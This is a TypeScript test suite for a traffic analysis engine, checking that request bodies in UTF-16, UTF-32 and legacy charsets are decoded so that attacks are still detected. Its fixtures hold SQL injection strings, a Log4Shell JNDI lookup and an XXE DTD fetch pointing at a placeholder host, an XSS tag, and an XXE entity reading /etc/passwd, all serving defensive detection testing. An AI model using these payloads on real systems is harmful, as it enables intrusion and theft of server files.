import fc from 'fast-check';
import { createAnalysisEngine, DEFAULT_LIMITS, type MatchEventRecord } from '@/runtime/analyzer/engine';
import { utf8Body } from '@/runtime/analyzer/engine/body-charset';
import { viewRequest } from '@/runtime/analyzer/engine/message-view';
import { buildExchange } from '@/test/fixtures/traffic';

const le = (text: string) => Buffer.from(text, 'utf16le');
const be = (text: string) => le(text).swap16();
const json = '{"comment":"héllo <b>"}';

describe('request bodies in UTF-16', () => {
  it.each<[string, Buffer, string]>([
    ['labelled utf-16le', le(json), 'application/json; charset=utf-16le'],
    ['labelled UTF-16BE', be(json), 'application/json; charset=UTF-16BE'],
    ['labelled utf-16 with a little-endian byte-order mark', Buffer.concat([Buffer.from([0xff, 0xfe]), le(json)]), 'application/json; charset=utf-16'],
    ['labelled utf-16 without a mark, big-endian (RFC 2781)', be(json), 'application/json; charset="utf-16"'],
    ['labelled utf-16 without a mark, little-endian (as .NET writes it)', le(json), 'application/x-www-form-urlencoded; charset=utf-16'],
    ['unlabelled little-endian JSON, told by its NUL bytes', le(json), 'application/json'],
    ['unlabelled big-endian JSON, told by its NUL bytes', be(json), 'application/json'],
    ['a big-endian byte-order mark on a form', Buffer.concat([Buffer.from([0xfe, 0xff]), be(json)]), 'application/x-www-form-urlencoded'],
    ['UTF-8 with a byte-order mark', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(json)]), 'application/json'],
  ])('reads %s as its text', (_what, data, contentType) => {
    expect(utf8Body(data, contentType, contentType.includes('json')).toString('utf8')).toBe(json);
  });

  it('gives back any text sent in UTF-16 of either byte order, marked or labelled', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme', maxLength: 40 }), fc.constantFrom('le', 'be'), fc.boolean(), (text, order, mark) => {
        const units = order === 'le' ? le(text) : be(text);
        const data = mark ? Buffer.concat([Buffer.from(order === 'le' ? [0xff, 0xfe] : [0xfe, 0xff]), units]) : units;
        const type = mark ? 'text/plain' : `text/plain; charset=utf-16${order}`;
        expect(utf8Body(data, type, false).toString('utf8')).toBe(text);
      }),
    );
  });

  it("takes an unmarked body's byte order from its first character, which the sender cannot make non-ASCII", () => {
    // Big-endian JSON led by U+0100 characters puts more NULs at odd positions than at even ones.
    const text = `{"q":"${'\u0100'.repeat(26)} x' UNION SELECT password FROM users--"}`;
    expect(utf8Body(be(text), 'application/json; charset=utf-16', true).toString('utf8')).toBe(text);
    expect(utf8Body(le(text), 'application/json; charset=utf-16', true).toString('utf8')).toBe(text);
  });

  it('leaves UTF-8, unlabelled bytes and ASCII in any charset as they are, and survives any bytes', () => {
    const utf8 = Buffer.from(json);
    expect(utf8Body(utf8, 'application/json; charset=utf-8', true)).toBe(utf8);
    const latin = Buffer.from('caf\xe9', 'latin1');
    expect(utf8Body(latin, 'text/plain', false)).toBe(latin);
    const ascii = Buffer.from('<a>plain</a>');
    expect(utf8Body(ascii, 'text/xml; charset=Shift_JIS', false)).toBe(ascii);
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 64 }), fc.constantFrom('', 'application/json', 'text/plain; charset=utf-16'), (bytes, type) => {
        const out = utf8Body(Buffer.from(bytes), type, type.includes('json'));
        expect(out.length).toBeLessThanOrEqual(bytes.length * 2 + 3);
      }),
    );
  });

  it('finds a payload sent as UTF-16 JSON or form, which read as UTF-8 was noise', () => {
    const engine = createAnalysisEngine({ catalog: false });
    for (const [type, body] of [
      ['application/json; charset=utf-16le', le(JSON.stringify({ q: "' OR '1'='1' --" }))],
      ['application/json', le(JSON.stringify({ q: '${jndi:ldap://203.0.113.9/a}' }))],
      ['application/x-www-form-urlencoded; charset=utf-16be', be(`q=${encodeURIComponent('<script>alert(1)</script>')}`)],
      // XML in UTF-16 without a byte-order mark or label: its `<` shows the byte order, as XML parsers read it
      ['text/xml', be('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % d SYSTEM "http://203.0.113.9/x.dtd">%d;]><r/>')],
    ] as const) {
      const events = engine.analyze(buildExchange({ method: 'POST', target: '/api', requestHeaders: [['Content-Type', type]], requestBody: body }), {
        sensorId: 's',
        sensorTags: [],
      });
      expect({ type, alerted: events.some((e): e is MatchEventRecord => e.msg_type === 'MatchEvent') }).toEqual({ type, alerted: true });
    }
    const view = viewRequest(
      buildExchange({ method: 'POST', target: '/api', requestHeaders: [['Content-Type', 'application/json']], requestBody: le(json) }),
      DEFAULT_LIMITS,
    );
    expect(view.bodyParams.map((p) => [p.name, p.value])).toEqual([['comment', 'héllo <b>']]);
  });
});

describe('request bodies in UTF-32 and in legacy charsets', () => {
  const utf32 = (text: string, order: 'le' | 'be', bom: boolean): Buffer => {
    const units = [...(bom ? '\ufeff' : ''), ...text].map((ch) => {
      const unit = Buffer.alloc(4);
      if (order === 'le') unit.writeUInt32LE(ch.codePointAt(0)!);
      else unit.writeUInt32BE(ch.codePointAt(0)!);
      return unit;
    });
    return Buffer.concat(units);
  };

  it('gives back text sent in UTF-32 of either byte order, marked, labelled or by its NUL pattern', () => {
    expect(utf8Body(utf32(json, 'le', true), 'application/json', true).toString('utf8')).toBe(json);
    expect(utf8Body(utf32(json, 'be', false), 'application/json', true).toString('utf8')).toBe(json);
    expect(utf8Body(utf32('<a>😀</a>', 'le', false), 'text/xml; charset=utf-32le', false).toString('utf8')).toBe('<a>😀</a>');
  });

  it('reads a form posted in Shift_JIS, EUC-KR or windows-1252 in that charset', () => {
    const fields = (body: string, charset: string) =>
      viewRequest(
        buildExchange({
          method: 'POST',
          target: '/search.php',
          requestHeaders: [['Content-Type', `application/x-www-form-urlencoded; charset=${charset}`]],
          requestBody: body,
        }),
        DEFAULT_LIMITS,
      ).bodyParams.map((p) => p.value);
    // a right single quote in each (which the engine then folds to an apostrophe)
    expect(fields('q=%81f+OR+1%3D1', 'Shift_JIS')).toEqual(['’ OR 1=1']);
    expect(fields('q=%A1%AF', 'EUC-KR')).toEqual(['’']);
    expect(fields('name=O%92Brien', 'windows-1252')).toEqual(['O’Brien']);
    expect(fields('q=%E2%80%99', 'utf-8')).toEqual(['’']);
  });

  it('reads a body in a legacy charset, labelled or declared by its XML, as its text; a form stays as sent', () => {
    const gbk = Buffer.from([...Buffer.from('<!DOCTYPE '), 0xb6, 0xa9, 0xb5, 0xa5, ...Buffer.from(' [<!ENTITY x SYSTEM "file:///etc/passwd">]>')]);
    expect(utf8Body(gbk, 'application/xml; charset=GBK', false).toString('utf8')).toBe('<!DOCTYPE 订单 [<!ENTITY x SYSTEM "file:///etc/passwd">]>');
    const declared = Buffer.concat([Buffer.from('<?xml version="1.0" encoding="Shift_JIS"?>\n<'), Buffer.from([0x92, 0x8d, 0x95, 0xb6]), Buffer.from('/>')]);
    expect(utf8Body(declared, 'text/xml', false).toString('utf8')).toBe('<?xml version="1.0" encoding="Shift_JIS"?>\n<注文/>');
    expect(utf8Body(Buffer.from('caf\xe9', 'latin1'), 'text/plain; charset=iso-8859-1', false).toString('utf8')).toBe('café');
    expect(utf8Body(Buffer.from([0x8e, 0xa8]), 'text/plain; charset=windows-1251', false).toString('utf8')).toBe('ЋЁ');
    const form = Buffer.from([...Buffer.from('q='), 0x92, 0x8d]);
    expect(utf8Body(form, 'application/x-www-form-urlencoded; charset=Shift_JIS', false)).toBe(form);
    const events = createAnalysisEngine().analyze(
      buildExchange({ method: 'POST', target: '/edi/receive', requestHeaders: [['Content-Type', 'application/xml; charset=GBK']], requestBody: gbk }),
      { sensorId: 's', sensorTags: [] },
    );
    expect(events.filter((e): e is MatchEventRecord => e.msg_type === 'MatchEvent').flatMap((e) => e.matches.map((m) => m.classification))).toContain('Xxe');
  });
});
